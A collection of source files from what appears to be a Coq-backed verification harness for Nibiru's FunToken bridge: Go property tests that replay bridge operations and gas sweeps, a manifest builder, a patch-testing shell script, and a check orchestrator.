// fixed openers: the shapes the property is about
func openers() [][]c06Op {
	c0 := &denomRef{K: "c", N: 0}
	e0 := &denomRef{K: "e", N: 0}
	pre := []c06Op{
		{K: "meta", D: c0}, {K: "fund", A: 3, D: c0, X: "1000"}, {K: "fund", A: 1, D: c0, X: "500"}, {K: "fund", A: 5, D: c0, X: "400"},
	}
	cat := func(xs ...[]c06Op) []c06Op {
		var out []c06Op
		for _, x := range xs {
			out = append(out, x...)
		}
		return out
	}
	return [][]c06Op{
		// coin-born round trips incl. a conversion inside a reverted sub-frame and a duplicate creation
		cat(pre, []c06Op{
			{K: "create_coin", A: 3, D: c0}, {K: "create_coin", A: 4, D: c0},
			{K: "convert", A: 3, D: c0, X: "300", To: 1, Fmt: "hex"},
			{K: "convert", A: 3, D: c0, X: "120", To: 5, Fmt: "hex"},
			{K: "send_to_bank", A: 1, T: 0, X: "70", To: 4, Fmt: "bech32"},
			{K: "send_to_bank", A: 5, T: 0, X: "50", To: 6, Fmt: "hex", Frame: "inner_revert"},
			{K: "send_to_bank", A: 5, T: 0, X: "20", To: 6, Fmt: "hex", Frame: "once_then_reverted"},
			{K: "send_to_evm", A: 1, D: c0, X: "33", To: 2, Fmt: "hex"},
			{K: "send_to_evm", A: 5, D: c0, X: "44", To: 2, Fmt: "bech32", Frame: "inner_revert"},
			{K: "erc20_burn", A: 1, T: 0, X: "5"},
			{K: "erc20_transfer", A: 1, T: 0, X: "7", To: 0},
			{K: "send_to_bank", A: 1, T: 0, X: "100000", To: 4, Fmt: "bech32"},
			{K: "create_erc20", A: 3, T: 0},
			// one EVM tx: ERC20 transfer (dirty EVM state) then sendToBank; then a pair whose second half fails
			{K: "seq", A: 5, Ops: []c06Op{{K: "erc20_transfer", A: 5, T: 0, X: "3", To: 2}, {K: "send_to_bank", A: 5, T: 0, X: "4", To: 4, Fmt: "hex"}}},
			{K: "seq", A: 5, Ops: []c06Op{{K: "send_to_bank", A: 5, T: 0, X: "5", To: 4, Fmt: "hex"}, {K: "send_to_evm", A: 5, D: c0, X: "6", To: 1, Fmt: "bech32"}}},
			{K: "seq", A: 5, Ops: []c06Op{{K: "send_to_bank", A: 5, T: 0, X: "5", To: 4, Fmt: "hex"}, {K: "send_to_bank", A: 5, T: 0, X: "100000", To: 4, Fmt: "hex"}}},
			// one Cosmos tx, two messages: the second fails, the first must not stick
			{K: "seq", A: 3, Ops: []c06Op{{K: "convert", A: 3, D: c0, X: "11", To: 2, Fmt: "hex"}, {K: "convert", A: 3, D: c0, X: "100000", To: 2, Fmt: "hex"}}},
			{K: "seq", A: 3, Ops: []c06Op{{K: "convert", A: 3, D: c0, X: "11", To: 2, Fmt: "hex"}, {K: "convert", A: 3, D: c0, X: "12", To: 1, Fmt: "hex"}}},
		}),
		// fee-on-transfer ERC20-born mapping: credited amount = measured increase
		cat(pre, []c06Op{
			{K: "deploy", A: 1, Kind: "fee"},
			{K: "create_erc20", A: 3, T: 0}, {K: "create_erc20", A: 4, T: 0}, {K: "create_coin", A: 3, D: e0},
			{K: "erc20_transfer", A: 1, T: 0, X: "300", To: 5},
			{K: "send_to_bank", A: 1, T: 0, X: "100", To: 3, Fmt: "bech32"},
			{K: "send_to_bank", A: 5, T: 0, X: "50", To: 3, Fmt: "hex", Frame: "swallow"},
			{K: "send_to_bank", A: 5, T: 0, X: "60", To: 4, Fmt: "hex", Frame: "inner_revert"},
			{K: "convert", A: 3, D: e0, X: "40", To: 2, Fmt: "hex"},
			{K: "convert", A: 3, D: e0, X: "10", To: 0, Fmt: "hex"},
			{K: "bank_msg_send", A: 5, D: e0, X: "1", To: 1, Fmt: "hex"},
			{K: "fund", A: 5, D: c0, X: "1"},
			{K: "erc20_transfer", A: 1, T: 0, X: "9", To: 0},
			{K: "send_to_evm", A: 1, D: e0, X: "1", To: 6, Fmt: "hex"},
			{K: "send_to_bank", A: 1, T: 0, X: "200", To: 2, Fmt: "hex"},
			{K: "send_to_evm", A: 2, D: e0, X: "50", To: 6, Fmt: "bech32"},
			{K: "send_to_evm", A: 2, D: e0, X: "30", To: 100, Fmt: "hex"},
		}),
		// the gas coin unibi as a coin-born FunToken: two precompile calls in one tx (same and different methods)
		{
			{K: "meta", D: &denomRef{K: "g"}}, {K: "fund", A: 5, D: &denomRef{K: "g"}, X: "5000"},
			{K: "create_coin", A: 3, D: &denomRef{K: "g"}}, {K: "create_coin", A: 4, D: &denomRef{K: "g"}},
			{K: "send_to_evm", A: 5, D: &denomRef{K: "g"}, X: "700", To: 5, Fmt: "hex", Frame: "plain"},
			{K: "seq", A: 5, Ops: []c06Op{{K: "send_to_evm", A: 5, D: &denomRef{K: "g"}, X: "1000", To: 2, Fmt: "hex"}, {K: "send_to_evm", A: 5, D: &denomRef{K: "g"}, X: "1000", To: 2, Fmt: "bech32"}}},
			{K: "seq", A: 5, Ops: []c06Op{{K: "send_to_bank", A: 5, T: 0, X: "300", To: 6, Fmt: "hex"}, {K: "send_to_evm", A: 5, D: &denomRef{K: "g"}, X: "250", To: 1, Fmt: "hex"}}},
			{K: "seq", A: 5, Ops: []c06Op{{K: "bank_msg_send", A: 5, D: &denomRef{K: "g"}, X: "10", To: 6, Fmt: "hex"}, {K: "send_to_evm", A: 5, D: &denomRef{K: "g"}, X: "40", To: 6, Fmt: "hex"}}},
			{K: "send_to_evm", A: 5, D: &denomRef{K: "g"}, X: "60", To: 2, Fmt: "hex", Frame: "once_then_reverted"},
			{K: "send_to_evm", A: 5, D: &denomRef{K: "g"}, X: "60", To: 2, Fmt: "hex", Frame: "inner_revert"},
			{K: "convert", A: 3, D: &denomRef{K: "g"}, X: "900", To: 1, Fmt: "hex"},
			{K: "send_to_evm", A: 1, D: &denomRef{K: "g"}, X: "77", To: 6, Fmt: "bech32"},
			{K: "send_to_bank", A: 1, T: 0, X: "500", To: 6, Fmt: "bech32"},
			{K: "send_to_bank", A: 2, T: 0, X: "1500", To: 5, Fmt: "hex"},
			{K: "bank_msg_send", A: 1, D: &denomRef{K: "g"}, X: "5", To: 6, Fmt: "hex"},
		},
		// a tokenfactory denom with a coin-born mapping: its admin and the bank against the escrow
		{
			{K: "tf_create", A: 3, D: &denomRef{K: "t", N: 30}}, {K: "tf_create", A: 3, D: &denomRef{K: "t", N: 30}},
			{K: "tf_mint", A: 3, D: &denomRef{K: "t", N: 30}, X: "1000", To: 3}, {K: "tf_mint", A: 3, D: &denomRef{K: "t", N: 30}, X: "500", To: 4},
			{K: "tf_mint", A: 4, D: &denomRef{K: "t", N: 30}, X: "5", To: 4},
			{K: "create_coin", A: 4, D: &denomRef{K: "t", N: 30}},
			{K: "convert", A: 3, D: &denomRef{K: "t", N: 30}, X: "600", To: 1, Fmt: "hex"},
			{K: "tf_burn", A: 3, D: &denomRef{K: "t", N: 30}, X: "250", To: 0},
			{K: "tf_burn", A: 3, D: &denomRef{K: "t", N: 30}, X: "250", To: 4},
			{K: "tf_mint", A: 3, D: &denomRef{K: "t", N: 30}, X: "10", To: 0},
			{K: "bank_send", A: 4, D: &denomRef{K: "t", N: 30}, X: "5", To: 0},
			{K: "bank_send", A: 4, D: &denomRef{K: "t", N: 30}, X: "5", To: 2},
			{K: "bank_multisend", A: 4, D: &denomRef{K: "t", N: 30}, X: "3", To: 6, X2: "4", To2: 0},
			{K: "bank_multisend", A: 4, D: &denomRef{K: "t", N: 30}, X: "3", To: 6, X2: "4", To2: 5},
			{K: "send_to_evm", A: 2, D: &denomRef{K: "t", N: 30}, X: "5", To: 6, Fmt: "hex"},
			{K: "send_to_bank", A: 1, T: 0, X: "100", To: 4, Fmt: "bech32"},
			{K: "tf_change_admin", A: 3, D: &denomRef{K: "t", N: 30}, To: 4},
			{K: "tf_burn", A: 3, D: &denomRef{K: "t", N: 30}, X: "1", To: 4},
			{K: "tf_burn", A: 4, D: &denomRef{K: "t", N: 30}, X: "400", To: 0},
			{K: "tf_burn", A: 4, D: &denomRef{K: "t", N: 30}, X: "1", To: 3},
		},
		// ERC20 whose transfer moves the tokens but returns false: usable by its holders, refused by the bridge
		cat(pre, []c06Op{
			{K: "deploy", A: 1, Kind: "false"},
			{K: "create_erc20", A: 3, T: 0},
			{K: "erc20_transfer", A: 1, T: 0, X: "100", To: 5},
			{K: "send_to_bank", A: 1, T: 0, X: "40", To: 3, Fmt: "bech32"},
			{K: "send_to_bank", A: 5, T: 0, X: "40", To: 3, Fmt: "hex", Frame: "swallow"},
			{K: "erc20_transfer", A: 5, T: 0, X: "10", To: 0, Frame: "plain"},
			{K: "send_to_bank", A: 1, T: 0, X: "1", To: 3, Fmt: "hex"},
		}),
		// bridge messages through the Wasm precompile: refused inside the EVM tx, in every frame; bank sends of the mapped coin
		// by the contract around the escrow; then everything redeemable is redeemed
		cat(pre, []c06Op{
			{K: "create_coin", A: 3, D: c0}, {K: "convert", A: 3, D: c0, X: "600", To: 1, Fmt: "hex"},
			{K: "fund", A: 7, D: c0, X: "500"}, {K: "fund", A: 7, D: &denomRef{K: "g"}, X: "20000000500"},
			{K: "meta", D: &denomRef{K: "c", N: 1}},
			{K: "wasm_convert", A: 5, D: c0, X: "100", To: 1, Fmt: "hex", Frame: "inner_revert"},
			{K: "wasm_convert", A: 5, D: c0, X: "100", To: 1, Fmt: "hex", Frame: "swallow"},
			{K: "wasm_convert", A: 5, D: c0, X: "100", To: 2, Fmt: "hex", Frame: "plain"},
			{K: "wasm_convert", A: 5, D: c0, X: "100", To: 2, Fmt: "hex", Frame: "revert_top"},
			{K: "wasm_convert", A: 5, D: c0, X: "100", To: 1, Fmt: "hex", Frame: "once_then_reverted"},
			{K: "wasm_create_coin", A: 5, D: &denomRef{K: "c", N: 1}, Frame: "inner_revert"},
			{K: "wasm_create_coin", A: 5, D: &denomRef{K: "c", N: 1}, Frame: "plain"},
			{K: "create_coin", A: 4, D: &denomRef{K: "c", N: 1}},
			{K: "wasm_bank_send", A: 5, D: c0, X: "30", To: 4, Frame: "plain"},
			{K: "wasm_bank_send", A: 5, D: c0, X: "30", To: 0, Frame: "swallow"},
			{K: "wasm_bank_send", A: 5, D: c0, X: "30", To: 4, Frame: "inner_revert"},
			{K: "wasm_bank_send", A: 5, D: c0, X: "20", To: 5, Frame: "once_then_reverted"},
			{K: "seq", A: 5, Ops: []c06Op{{K: "wasm_convert", A: 5, D: c0, X: "50", To: 5, Fmt: "hex"}, {K: "send_to_evm", A: 5, D: c0, X: "10", To: 1, Fmt: "hex"}}},
			{K: "seq", A: 5, Ops: []c06Op{{K: "wasm_bank_send", A: 5, D: c0, X: "40", To: 5}, {K: "send_to_evm", A: 5, D: c0, X: "25", To: 5, Fmt: "hex"}}},
			{K: "seq", A: 5, Ops: []c06Op{{K: "send_to_bank", A: 5, T: 0, X: "5", To: 4, Fmt: "hex"}, {K: "wasm_bank_send", A: 5, D: c0, X: "7", To: 1}}},
			{K: "deploy", A: 1, Kind: "std"},
			{K: "wasm_create_erc20", A: 5, T: 2, Frame: "swallow"},
			{K: "send_to_bank", A: 1, T: 0, X: "700", To: 4, Fmt: "bech32"},
			{K: "send_to_bank", A: 1, T: 0, X: "600", To: 4, Fmt: "bech32"},
			{K: "send_to_bank", A: 2, T: 0, X: "100", To: 4, Fmt: "bech32"},
		}),
		// one name, several strings: an IBC voucher and the same hash in lower / mixed case, "UCOIN0", a lower-case
		// "erc20/0x…": each string is its own bank denom (own metadata, own mapping, own escrow)
		cat(pre, []c06Op{
			{K: "meta", D: &denomRef{K: "i"}}, {K: "fund", A: 3, D: &denomRef{K: "i"}, X: "900"}, {K: "fund", A: 3, D: &denomRef{K: "i", Sp: 1}, X: "70"},
			{K: "create_coin", A: 3, D: &denomRef{K: "i"}}, {K: "create_coin", A: 4, D: &denomRef{K: "i"}},
			{K: "convert", A: 3, D: &denomRef{K: "i"}, X: "100", To: 1, Fmt: "hex"},
			{K: "create_coin", A: 4, D: &denomRef{K: "i", Sp: 1}}, // no metadata under this string
			{K: "create_coin", A: 4, D: &denomRef{K: "i", Sp: 3}},
			{K: "convert", A: 3, D: &denomRef{K: "i"}, X: "50", To: 2, Fmt: "hex"},
			{K: "convert", A: 3, D: &denomRef{K: "i", Sp: 1}, X: "5", To: 2, Fmt: "hex"},
			{K: "meta", D: &denomRef{K: "i", Sp: 1}},
			{K: "create_coin", A: 4, D: &denomRef{K: "i", Sp: 1}}, {K: "create_coin", A: 3, D: &denomRef{K: "i", Sp: 1}},
			{K: "convert", A: 3, D: &denomRef{K: "i", Sp: 1}, X: "30", To: 2, Fmt: "hex"},
			{K: "send_to_evm", A: 1, D: &denomRef{K: "i", Sp: 2}, X: "1", To: 2, Fmt: "hex"},
			{K: "send_to_bank", A: 1, T: 0, X: "40", To: 4, Fmt: "bech32"},
			{K: "create_coin", A: 3, D: c0},
			{K: "create_coin", A: 3, D: &denomRef{K: "c", Sp: 1}},
			{K: "meta", D: &denomRef{K: "c", Sp: 1}},
			{K: "create_coin", A: 3, D: &denomRef{K: "c", Sp: 1}},
			{K: "deploy", A: 1, Kind: "std"},
			{K: "create_erc20", A: 3, T: 4},
			{K: "create_coin", A: 3, D: &denomRef{K: "e", N: 4, Sp: 1}},
			{K: "meta", D: &denomRef{K: "e", N: 4, Sp: 1}},
			{K: "create_coin", A: 3, D: &denomRef{K: "e", N: 4, Sp: 1}},
			{K: "create_coin", A: 3, D: &denomRef{K: "e", N: 4}},
			{K: "convert", A: 3, D: &denomRef{K: "i"}, X: "7", To: 5, Fmt: "hex"},
		}),
		// standard and heavy ERC20-born mappings
		cat(pre, []c06Op{
			{K: "deploy", A: 2, Kind: "std"}, {K: "deploy", A: 1, Kind: "heavy"},
			{K: "create_erc20", A: 3, T: 0}, {K: "create_erc20", A: 3, T: 1}, {K: "create_erc20", A: 3, T: 7},
			{K: "send_to_bank", A: 2, T: 0, X: "1000", To: 3, Fmt: "bech32"},
			{K: "send_to_bank", A: 1, T: 1, X: "1000", To: 3, Fmt: "bech32"},
			{K: "send_to_bank", A: 2, T: 0, X: "10", To: 0, Fmt: "hex"},
			{K: "send_to_bank", A: 2, T: 0, X: "10", To: 3, Fmt: "hex", BadTo: true},
			{K: "convert", A: 3, D: e0, X: "400", To: 5, Fmt: "hex"},
			{K: "send_to_bank", A: 5, T: 0, X: "150", To: 5, Fmt: "hex", Frame: "plain"},
			{K: "send_to_evm", A: 5, D: e0, X: "100", To: 1, Fmt: "hex", Frame: "once_then_reverted"},
			{K: "send_to_evm", A: 5, D: e0, X: "100", To: 1, Fmt: "hex", Frame: "revert_top"},
			{K: "convert", A: 3, D: e0, X: "7", To: 0, Fmt: "hex"},
			{K: "bank_msg_send", A: 5, D: e0, X: "30", To: 2, Fmt: "bech32", Frame: "plain"},
			{K: "send_to_evm", A: 2, D: e0, X: "9", To: 0, Fmt: "hex"},
			{K: "convert", A: 3, D: e0, X: "-5", To: 5, Fmt: "hex"},
			{K: "convert", A: 3, D: e0, X: "100000", To: 5, Fmt: "hex"},
		}),
	}
}

// gasSweep: the forwarder repeats one conversion with a descending gas stipend so that every point at which the
// precompile can run out of gas half-way (between its ERC20 step and its bank step) is visited.
func gasSweep(base c06Op, hi, lo, step int) []c06Op {
	var ops []c06Op
	for g := hi; g >= lo; g -= step {
		op := base
		op.A, op.Frame, op.CallGas = 5, "plain", uint64(g)
		ops = append(ops, op)
	}
	return ops
}

func sweepCases(tier string) [][]c06Op {
	step, hi, lo := 1000, 230_000, 40_000
	if tier == "thorough" {
		step = 200
	}
	c0, e0, gd := &denomRef{K: "c", N: 0}, &denomRef{K: "e", N: 0}, &denomRef{K: "g"}
	coin := []c06Op{
		{K: "meta", D: c0}, {K: "fund", A: 3, D: c0, X: "1000000"}, {K: "fund", A: 5, D: c0, X: "100000"},
		{K: "create_coin", A: 3, D: c0}, {K: "convert", A: 3, D: c0, X: "500000", To: 5, Fmt: "hex"},
	}
	erc := func(kind string) []c06Op {
		return []c06Op{
			{K: "deploy", A: 1, Kind: kind}, {K: "create_erc20", A: 3, T: 0},
			{K: "erc20_transfer", A: 1, T: 0, X: "900", To: 5},
			{K: "send_to_bank", A: 5, T: 0, X: "400", To: 5, Fmt: "hex", Frame: "plain"},
		}
	}
	gas := []c06Op{
		{K: "meta", D: gd}, {K: "fund", A: 5, D: gd, X: "100000"}, {K: "create_coin", A: 3, D: gd},
		{K: "send_to_evm", A: 5, D: gd, X: "50000", To: 5, Fmt: "hex", Frame: "plain"},
	}
	cat := func(xs ...[]c06Op) []c06Op {
		var out []c06Op
		for _, x := range xs {
			out = append(out, x...)
		}
		return out
	}
	out := [][]c06Op{
		cat(coin, gasSweep(c06Op{K: "send_to_bank", T: 0, X: "10", To: 6, Fmt: "hex"}, hi, lo, step)),
		cat(coin, gasSweep(c06Op{K: "send_to_evm", D: c0, X: "10", To: 6, Fmt: "bech32"}, hi, lo, step)),
		cat(erc("std"), gasSweep(c06Op{K: "send_to_bank", T: 0, X: "1", To: 6, Fmt: "hex"}, hi, lo, step)),
		cat(erc("std"), gasSweep(c06Op{K: "send_to_evm", D: e0, X: "1", To: 6, Fmt: "hex"}, hi, lo, step)),
		cat(gas, gasSweep(c06Op{K: "send_to_bank", T: 0, X: "10", To: 6, Fmt: "hex"}, hi, lo, step)),
		cat(gas, gasSweep(c06Op{K: "send_to_evm", D: gd, X: "10", To: 6, Fmt: "hex"}, hi, lo, step)),
	}
	if tier == "thorough" {
		out = append(out,
			cat(erc("fee"), gasSweep(c06Op{K: "send_to_bank", T: 0, X: "1", To: 6, Fmt: "hex"}, hi, lo, 500)),
			cat(erc("fee"), gasSweep(c06Op{K: "send_to_evm", D: e0, X: "1", To: 6, Fmt: "hex"}, hi, lo, 500)),
			cat(coin, gasSweep(c06Op{K: "erc20_transfer", T: 0, X: "1", To: 6}, 120_000, 10_000, 500)),
			cat(coin, gasSweep(c06Op{K: "bank_msg_send", D: c0, X: "1", To: 6, Fmt: "hex"}, hi, lo, 500)))
	}
	return out
}

func TestC06(t *testing.T) {
	cfg := LoadCfg(t, 70, 1500)
	em := NewEmitter(t, cfg.Out)
	defer em.Close()
	run := func(ops []c06Op) {
		w := newWorld(t)
		if usesWasm(ops) {
			w.setupWasm()
		}
		em.Emit(ops, w.runCase(ops), nil)
	}
	if cfg.Replay != "" {
		for _, raw := range cfg.ReplayInputs(t) {
			var ops []c06Op
			if err := json.Unmarshal(raw, &ops); err != nil {
				t.Fatal(err)
			}
			run(ops)
		}
		return
	}
	for _, ops := range openers() {
		run(ops)
	}
	for _, ops := range sweepCases(cfg.Tier) {
		run(ops)
	}
	rng := NewRng(cfg.Seed)
	for i := 0; i < cfg.N; i++ {
		run(genCase(rng.Fork()))
	}
}
