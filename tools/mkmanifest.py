#!/usr/bin/env python3
"""Assemble /verif/MANIFEST.json from the per-property plugins (tools/props/cNN.py: MANIFEST dict)
and tools/not_applicable.json."""
import importlib, json, os, sys
VERIF = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(VERIF, "tools"))
checks = []
claimed = set()
for fn in sorted(os.listdir(os.path.join(VERIF, "tools", "props"))):
    if not fn.startswith("c") or not fn.endswith(".py"):
        continue
    m = importlib.import_module("props." + fn[:-3])
    if not getattr(m, "MANIFEST", None) or getattr(m, "DISABLED", False):
        continue
    pid = m.ID
    claimed.add(pid)
    c = {"property_id": pid,
         "quick_cmd": "./check %s --tier quick" % pid,
         "thorough_cmd": "./check %s --tier thorough" % pid,
         "evidence_file": "/verif/evidence/%s.json" % pid,
         "replay_cmd_template": "./check %s --replay {path}" % pid,
         "engine": "coq-proof+correspondence"}
    c.update(m.MANIFEST)
    checks.append(c)
props = [json.loads(l)["id"] for l in open(os.path.join(VERIF, "properties.jsonl"))]
na_path = os.path.join(VERIF, "tools", "not_applicable.json")
na_reasons = json.load(open(na_path)) if os.path.exists(na_path) else {}
na = []
for p in props:
    if p not in claimed:
        na.append({"property_id": p, "reason": na_reasons.get(p, "check not built yet in this session (planned: DESIGN.md §5 %s); not claimed until its check passes on the tree" % p)})
man = {
    "version": 1,
    "setup_cmd": "./setup.sh",
    "hooks": {"guard": "verif", "enable": "go test -c -tags verif (harness module with replace github.com/NibiruChain/nibiru/v2 => /repo)",
              "baseline_off_cmd": "cd /repo && GOFLAGS=-mod=mod go test -vet=off -count=1 -timeout 25m ./...",
              "source_commits": [], "add_only": True},
    "engines": [{"name": "coq-proof+correspondence", "path": "/verif/tools/check.py",
                 "serves_properties": sorted(claimed),
                 "kind_free_text": "Coq 8.16 models+theorems (coq/), facts regenerated from /repo by harness/gen, Go harness (harness/) driving the real keepers/ABCI, traces evaluated in Coq by vm_compute"}],
    "checks": checks,
    "not_applicable": na,
    "notes": "See DESIGN.md. known_findings.json lists fixed and open findings. seeded/ holds confirmed breaking changes used to test the checks.",
}
json.dump(man, open(os.path.join(VERIF, "MANIFEST.json"), "w"), indent=1)
print("MANIFEST: %d checks, %d not_applicable" % (len(checks), len(na)))
