#!/bin/sh
# usage: tools/seedtest.sh <patch.diff> <ID> [<ID>…]
# Applies the patch to a scratch worktree of /repo (never to /repo itself), runs the given checks against it
# (VERIF_REPO isolation: builds under build/alt-<hash>), prints each verdict, removes the worktree and the alt build.
set -u
PATCH=$(realpath "$1"); shift
V=$(dirname "$(dirname "$(realpath "$0")")")   # the /verif tree this script lives in (a snapshot works too)
WT=$(mktemp -d /tmp/wt-seed-XXXXXX)
rmdir "$WT"
git -C /repo worktree add -q "$WT" HEAD || exit 2
cd "$WT" && git apply "$PATCH" || { echo "patch does not apply"; git -C /repo worktree remove --force "$WT"; exit 2; }
cd "$V"
for id in "$@"; do
  out=$(VERIF_REPO="$WT" ./check "$id" 2>&1); rc=$?
  echo "$out" | grep -E "VIOLATION|KNOWN-FINDING|ERROR|done:" | sed "s/^/[$id rc=$rc] /"; echo "$out" | grep -qE "done:|VIOLATION" || echo "$out" | tail -15
done
H=$(python3 -c "import hashlib,os,sys;print(hashlib.sha1(os.path.realpath(sys.argv[1]).encode()).hexdigest()[:8])" "$WT")
git -C /repo worktree remove --force "$WT"
rm -rf "$V/build/alt-$H"
