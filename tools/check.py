#!/usr/bin/env python3
"""Orchestrator of one property check (DESIGN.md §3).

  tools/check.py <ID> [--tier quick|thorough] [--replay FILE]

 1 regenerate coq/Gen/<ID>Facts.v from /repo, rebuild the Go harness against /repo
 2 build the Coq development; re-check the property's obligation files with coqc
 3 run corpus + generated histories on the implementation, turn the trace into cases_<ID>.v,
   evaluate inside Coq (vm_compute): M = cases where model and implementation disagree,
   V = cases where the property predicate Pb is false on the IMPLEMENTATION trace
 4 decide (exit 0 / KNOWN-FINDING / VIOLATION … / VIOLATION … no-failing-input-found)
 5 rewrite evidence/<ID>.json
"""
import argparse, fcntl, hashlib, importlib, json, os, re, shutil, subprocess, sys, time

VERIF = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
REPO = os.environ.get("VERIF_REPO", "/repo")
BUILD = os.path.join(VERIF, "build")
COQ = os.path.join(VERIF, "coq")
HARNESS = os.path.join(VERIF, "harness")
OUTDIR = VERIF  # evidence/ and replay/ live here
ALT = os.path.realpath(REPO) != "/repo"
if ALT:
    # Testing against another checkout (a scratch worktree with a candidate change): fully isolated
    # build dir, private copy of the Coq tree (generated facts differ), private evidence/replay.
    BUILD = os.path.join(VERIF, "build", "alt-" + hashlib.sha1(os.path.realpath(REPO).encode()).hexdigest()[:8])
    COQ = os.path.join(BUILD, "coq")
    OUTDIR = BUILD
    os.makedirs(BUILD, exist_ok=True)
    subprocess.run(["rsync", "-a", "--update", os.path.join(VERIF, "coq") + "/", COQ + "/"], check=True)
sys.path.insert(0, os.path.join(VERIF, "tools"))

GO124 = "/root/go/pkg/mod/golang.org/toolchain@v0.0.1-go1.24.0.linux-amd64/bin/go"


def log(*a):
    print("[check]", *a, flush=True)


def go_env():
    env = dict(os.environ)
    env["GOFLAGS"] = "-mod=mod -trimpath"  # trimpath: scratch worktrees share build-cache entries
    env["GOPROXY"] = "off"
    env.pop("GOSUMDB", None)
    env.pop("GONOSUMDB", None)
    env.pop("GONOSUMCHECK", None)
    env["GOTOOLCHAIN"] = "local" if os.path.exists(GO124) else "auto"
    env.setdefault("HOME", "/root")
    return env


def go_bin():
    return GO124 if os.path.exists(GO124) else "go"


class Lock:
    def __init__(self, name):
        os.makedirs(BUILD, exist_ok=True)
        self.path = os.path.join(BUILD, name + ".lock")

    def __enter__(self):
        self.f = open(self.path, "w")
        fcntl.flock(self.f, fcntl.LOCK_EX)
        return self

    def __exit__(self, *a):
        fcntl.flock(self.f, fcntl.LOCK_UN)
        self.f.close()


def run(cmd, cwd=None, env=None, timeout=1800, stdin=None):
    t0 = time.time()
    try:
        p = subprocess.run(cmd, cwd=cwd, env=env, timeout=timeout, stdout=subprocess.PIPE,
                           stderr=subprocess.STDOUT, text=True, input=stdin)
        return p.returncode, p.stdout, time.time() - t0
    except subprocess.TimeoutExpired as e:
        out = e.stdout if isinstance(e.stdout, str) else (e.stdout or b"").decode("utf8", "replace")
        return 124, (out or "") + "\n[timeout after %ss]" % timeout, time.time() - t0


# ------------------------------------------------------------------ build steps

def build_go(plugin):
    """Build with one retry: a concurrently trimmed Go build cache or a busy machine can fail a build transiently."""
    ok, msg = _build_go(plugin)
    if not ok:
        time.sleep(5)
        ok, msg = _build_go(plugin)
    return ok, msg


def _build_go(plugin):
    """(Re)build this property's harness test binary and fact generator against the repo working tree."""
    pk = plugin.ID.lower()
    with Lock("go"):
        sumdir = BUILD if ALT else HARNESS
        shutil.copyfile(os.path.join(REPO, "go.sum"), os.path.join(sumdir, "go.sum"))
        extra = os.path.join(HARNESS, "go.sum.extra")
        if os.path.exists(extra):
            with open(os.path.join(sumdir, "go.sum"), "a") as f:
                f.write(open(extra).read())
        modflag = []
        if ALT:
            mod = open(os.path.join(HARNESS, "go.mod")).read().replace("=> /repo\n", "=> %s\n" % os.path.realpath(REPO))
            open(os.path.join(BUILD, "go.mod"), "w").write(mod)
            modflag = ["-modfile=" + os.path.join(BUILD, "go.mod")]
        dt = 0
        if getattr(plugin, "GEN", None):
            gdir = getattr(plugin, "GEN_DIR", HARNESS)  # a generator may live in its own module
            gflag = modflag if gdir == HARNESS else []
            rc, out, dt = run([go_bin(), "build"] + gflag + ["-o", os.path.join(BUILD, "gen_" + pk), getattr(plugin, "GEN_PKG", "./gen/" + pk)],
                              cwd=gdir, env=go_env())
            if rc != 0:
                return False, "gen build failed:\n" + out
        rc, out, dt2 = run([go_bin(), "test", "-c"] + modflag + ["-tags", "verif", "-o", os.path.join(BUILD, "harness_%s.test" % pk), "./" + pk],
                           cwd=HARNESS, env=go_env(), timeout=2400)
        if rc != 0:
            return False, "harness build failed:\n" + out
        log("go build ok (%.0fs)" % (dt + dt2))
        return True, ""


def gen_facts(plugin):
    gen = getattr(plugin, "GEN", None)
    if not gen:
        return True, ""
    rc, out, _ = run([os.path.join(BUILD, "gen_" + plugin.ID.lower()), os.path.realpath(REPO)], cwd=HARNESS, env=go_env(), timeout=600)
    if rc != 0:
        return False, "fact generator failed:\n" + out
    path = os.path.join(COQ, "Gen", plugin.ID + "Facts.v")
    old = open(path).read() if os.path.exists(path) else None
    if old != out:
        with open(path, "w") as f:
            f.write(out)
        log("facts changed -> " + path)
    return True, out


def ensure_makefile():
    """_CoqProject lists every .v file under coq/ (kept sorted); the Makefile is regenerated when it changes."""
    mk = os.path.join(COQ, "Makefile")
    cp = os.path.join(COQ, "_CoqProject")
    vs = []
    for root, dirs, files in os.walk(COQ):
        dirs[:] = sorted(d for d in dirs if not d.startswith(".") and d != "scratch")
        for fn in sorted(files):
            if fn.endswith(".v") and not fn.startswith("."):
                vs.append(os.path.relpath(os.path.join(root, fn), COQ))
    want = "-Q . Nib\n" + "\n".join(sorted(vs)) + "\n"
    if not os.path.exists(cp) or open(cp).read() != want:
        open(cp, "w").write(want)
    if not os.path.exists(mk) or os.path.getmtime(mk) < os.path.getmtime(cp):
        rc, out, _ = run(["coq_makefile", "-f", "_CoqProject", "-o", "Makefile"], cwd=COQ)
        if rc != 0:
            raise SystemExit("coq_makefile failed:\n" + out)


def coq_make(targets, timeout=3000):
    ensure_makefile()
    return run(["make", "-j16"] + targets, cwd=COQ, timeout=timeout)


def coqc(path, timeout=1200):
    return run(["coqc", "-Q", COQ, "Nib", path], cwd=os.path.dirname(path), timeout=timeout)


def theorems_in(vfile):
    txt = open(os.path.join(COQ, vfile)).read()
    return re.findall(r"^\s*Theorem\s+([A-Za-z0-9_']+)", txt, re.M)


def assumptions_from(out):
    """Parse `Print Assumptions` blocks from coqc output -> list of axiom names (empty = closed)."""
    axioms = []
    for blk in re.split(r"\n(?=\S)", out):
        if blk.startswith("Axioms:"):
            for m in re.finditer(r"^\s*([A-Za-z0-9_.']+)\s*:", blk[len("Axioms:"):], re.M):
                axioms.append(m.group(1))
    return sorted(set(axioms))


# ------------------------------------------------------------------ harness + evaluation

def run_harness(plugin, tier, seed, n=None, replay=None, tag="gen"):
    wd = os.path.join(BUILD, "run", plugin.ID)
    os.makedirs(wd, exist_ok=True)
    out = os.path.join(wd, "trace_%s.jsonl" % tag)
    if os.path.exists(out):
        os.remove(out)
    env = go_env()
    env.update({"VERIF_SEED": str(seed), "VERIF_TIER": tier, "VERIF_OUT": out})
    if n:
        env["VERIF_N"] = str(n)
    else:
        env.pop("VERIF_N", None)
    if replay:
        env["VERIF_REPLAY"] = replay
    else:
        env.pop("VERIF_REPLAY", None)
    to = getattr(plugin, "HARNESS_TIMEOUT", {"quick": 600, "thorough": 7200})[tier]
    cmd = [os.path.join(BUILD, "harness_%s.test" % plugin.ID.lower()), "-test.run", "^(%s)$" % plugin.HARNESS_TEST, "-test.count=1",
           "-test.timeout", "%ds" % to]
